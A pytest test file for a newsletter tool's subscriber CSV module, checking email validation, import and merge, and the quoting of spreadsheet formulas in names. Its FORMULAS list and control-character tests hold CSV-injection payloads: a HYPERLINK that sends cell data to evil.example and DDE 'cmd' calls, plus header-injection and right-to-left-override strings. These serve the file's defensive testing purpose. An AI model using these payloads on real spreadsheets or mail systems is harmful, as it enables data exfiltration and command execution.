"""The subscribers CSV (mash.subscribers)."""

from __future__ import annotations

import csv
import io
import tempfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mash.errors import ConfigError
from mash.subscribers import (
    SUBSCRIBED,
    UNSUBSCRIBED,
    Subscriber,
    add_subscriber,
    clean_name,
    import_subscribers,
    list_subscribers,
    load_subscribers,
    parse_subscribers,
    remove_subscriber,
    save_subscribers,
    spreadsheet_safe,
    validate_email,
)


@pytest.mark.parametrize(
    "address",
    ["ann@example.com", "first.last+tag@sub.example.co.uk", "o'brien@example.ie", "x@a-b.org"],
)
def test_valid_addresses(address: str) -> None:
    assert validate_email(address) == address


def test_domain_is_lower_cased_and_space_trimmed() -> None:
    assert validate_email("  Ann@Example.COM ") == "Ann@example.com"


@pytest.mark.parametrize(
    "address",
    [
        "",
        "plain",
        "@example.com",
        "ann@",
        "ann@localhost",
        "ann@@example.com",
        "ann example@example.com",
        "ann@exa mple.com",
        "ann@-example.com",
        "ann.@example.com",
        ".ann@example.com",
        "a..b@example.com",
        "ann@example.com\r\nBcc: x@y.org",
        "ann@1.2.3.4",
        "ann@exam_ple.com",
        "\u00e9l\u00e8ve@example.fr",
        "a" * 65 + "@example.com",
    ],
)
def test_invalid_addresses(address: str) -> None:
    with pytest.raises(ValueError):
        validate_email(address)


@given(st.text(max_size=40))
def test_valid_addresses_never_carry_controls_or_spaces(text: str) -> None:
    try:
        address = validate_email(text)
    except ValueError:
        return
    assert not any(c.isspace() or ord(c) < 32 for c in address)
    assert address.count("@") == 1


def test_parse_with_header_in_any_order() -> None:
    result = parse_subscribers(
        "status,email,name\nsubscribed,ann@example.com,Ann\n,bob@example.com,Bob\n", "s.csv"
    )
    assert result.subscribers == (
        Subscriber("ann@example.com", "Ann", SUBSCRIBED),
        Subscriber("bob@example.com", "Bob", SUBSCRIBED),
    )
    assert result.problems == ()


def test_parse_without_header_and_with_comments_and_blank_lines() -> None:
    text = "# our list\nann@example.com,Ann\n\ncid@example.com,,unsubscribed\n"
    result = parse_subscribers(text, "s.csv")
    assert [s.email for s in result.subscribers] == ["ann@example.com", "cid@example.com"]
    assert [s.email for s in result.active] == ["ann@example.com"]


def test_bad_rows_are_reported_by_line_and_skipped() -> None:
    text = (
        "email,name,status\n"
        "ann@example.com,Ann,\n"
        "nope,Bad,\n"
        "bob@example.com,Bob,paused\n"
        "ANN@example.com,Ann again,\n"
        "cid@example.com,Cid,active\n"
    )
    result = parse_subscribers(text, "subs.csv")
    assert [s.email for s in result.subscribers] == ["ann@example.com", "cid@example.com"]
    assert [p.split(": ")[0] for p in result.problems] == [
        "subs.csv:3",
        "subs.csv:4",
        "subs.csv:5",
    ]
    assert "not an email address" in result.problems[0]
    assert "unknown status 'paused'" in result.problems[1]
    assert "duplicate" in result.problems[2]


def test_names_with_line_breaks_are_flattened() -> None:
    result = parse_subscribers('email,name\nann@example.com,"Ann\r\nBcc: x@y.org"\n', "s.csv")
    assert result.subscribers[0].name == "Ann Bcc: x@y.org"


def test_missing_file_is_a_config_error(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="mash subscribers add"):
        load_subscribers(tmp_path / "none.csv")


def test_utf8_bom_and_non_ascii_names(tmp_path: Path) -> None:
    path = tmp_path / "s.csv"
    path.write_bytes("\ufeffemail,name\nzoe@example.com,Zoë Ångström\n".encode())
    assert load_subscribers(path).subscribers == (Subscriber("zoe@example.com", "Zoë Ångström"),)


def test_add_remove_list_round_trip(tmp_path: Path) -> None:
    path = tmp_path / "data" / "subscribers.csv"
    add_subscriber(path, "ann@example.com", "Ann")
    add_subscriber(path, "bob@example.com")
    assert [s.email for s in list_subscribers(path).subscribers] == [
        "ann@example.com",
        "bob@example.com",
    ]
    assert remove_subscriber(path, "ANN@example.com")
    assert list_subscribers(path).subscribers[0].status == UNSUBSCRIBED
    assert not remove_subscriber(path, "nobody@example.com")
    again = add_subscriber(path, "ann@example.com")
    assert again == Subscriber("ann@example.com", "Ann", SUBSCRIBED)
    assert remove_subscriber(path, "bob@example.com", purge=True)
    assert [s.email for s in list_subscribers(path).subscribers] == ["ann@example.com"]
    assert path.read_text().startswith("email,name,status\n")
    assert list(path.parent.glob("*.tmp")) == []


def test_add_refuses_a_bad_address(tmp_path: Path) -> None:
    with pytest.raises(ValueError):
        add_subscriber(tmp_path / "s.csv", "not-an-address")
    assert not (tmp_path / "s.csv").exists()


def test_import_merges_without_resubscribing(tmp_path: Path) -> None:
    path = tmp_path / "subscribers.csv"
    save_subscribers(
        path,
        [Subscriber("ann@example.com", "Ann"), Subscriber("bob@example.com", "", UNSUBSCRIBED)],
    )
    source = tmp_path / "new.csv"
    source.write_text(
        "email,name\nbob@example.com,Bob\ncid@example.com,Cid\nbroken,X\nann@example.com,Ann\n"
    )
    report = import_subscribers(path, source)
    assert (report.added, report.updated, report.unchanged) == (1, 1, 1)
    assert report.problems == (f"{source}:4: not an email address: 'broken'; row skipped",)
    rows = {s.email: s for s in list_subscribers(path).subscribers}
    assert rows["bob@example.com"] == Subscriber("bob@example.com", "Bob", UNSUBSCRIBED)
    assert rows["cid@example.com"].status == SUBSCRIBED


def test_rewrite_refuses_when_it_would_drop_bad_rows(tmp_path: Path) -> None:
    path = tmp_path / "subscribers.csv"
    path.write_text("email,name\nann@example.com,Ann\nbroken,Bad\n")
    with pytest.raises(ConfigError, match=r"subscribers.csv:3"):
        add_subscriber(path, "bob@example.com")
    assert "broken" in path.read_text()


# --- names and spreadsheets (see #21) ------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
]


def test_names_with_control_characters_are_refused_by_line(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_text(
        "email,name\n"
        "ann@example.com,Ann\n"
        "bell@example.com,Bell\x07Ringer\n"
        "eve@example.com,Eve \u202egnp.exe\n"
        "del@example.com,Del\x7f\n"
        "tab@example.com,Tab\tSeparated\n",
        encoding="utf-8",
    )
    report = import_subscribers(tmp_path / "subscribers.csv", source)
    assert report.added == 2 and [p.split(": ")[0] for p in report.problems] == [
        f"{source}:3",
        f"{source}:4",
        f"{source}:5",
    ]
    assert "control character (U+0007)" in report.problems[0]
    assert "control character (U+202E)" in report.problems[1]
    names = [s.name for s in load_subscribers(tmp_path / "subscribers.csv").subscribers]
    assert names == ["Ann", "Tab Separated"]  # whitespace is flattened, as before
    with pytest.raises(ValueError, match="control character"):
        add_subscriber(tmp_path / "subscribers.csv", "zed@example.com", "Zed\x1b[31m")


def test_csv_cells_never_start_a_formula_and_read_back_the_same(tmp_path: Path) -> None:
    path = tmp_path / "subscribers.csv"
    people = [Subscriber(f"p{i}@example.com", name) for i, name in enumerate(FORMULAS)]
    people.append(Subscriber("-dash@example.com", "Plain Name"))  # a valid address, too
    save_subscribers(path, people)
    cells = [cell for row in csv.reader(io.StringIO(path.read_text())) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"Click")' in cells
    assert "''=already quoted" in cells
    assert load_subscribers(path).subscribers == tuple(people)


def test_subscribers_list_neutralises_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from mash.cli import main

    config = tmp_path / "feeds.yaml"
    config.write_text("feeds:\n  - https://example.org/feed\n")
    save_subscribers(
        tmp_path / "data" / "subscribers.csv",
        [Subscriber(f"p{i}@example.com", name) for i, name in enumerate(FORMULAS)],
    )
    assert main(["--config", str(config), "subscribers", "list"]) == 0
    fields = [f for line in capsys.readouterr().out.splitlines() for f in line.split("\t")]
    assert len(fields) == 3 * len(FORMULAS)
    assert not [f for f in fields if f.startswith(("=", "+", "-", "@"))]


@given(st.text(), st.sampled_from(["", "=", "'", "''=", "@", "-", "+"]))
def test_every_acceptable_name_reads_back_as_written(text: str, start: str) -> None:
    try:
        name = clean_name(start + text)
    except ValueError:
        return  # refused names are the test above
    assert not spreadsheet_safe(name).startswith(("=", "+", "-", "@", "\t", "\r"))
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "subscribers.csv"
        save_subscribers(path, [Subscriber("ann@example.com", name)])
        assert load_subscribers(path).subscribers == (Subscriber("ann@example.com", name),)
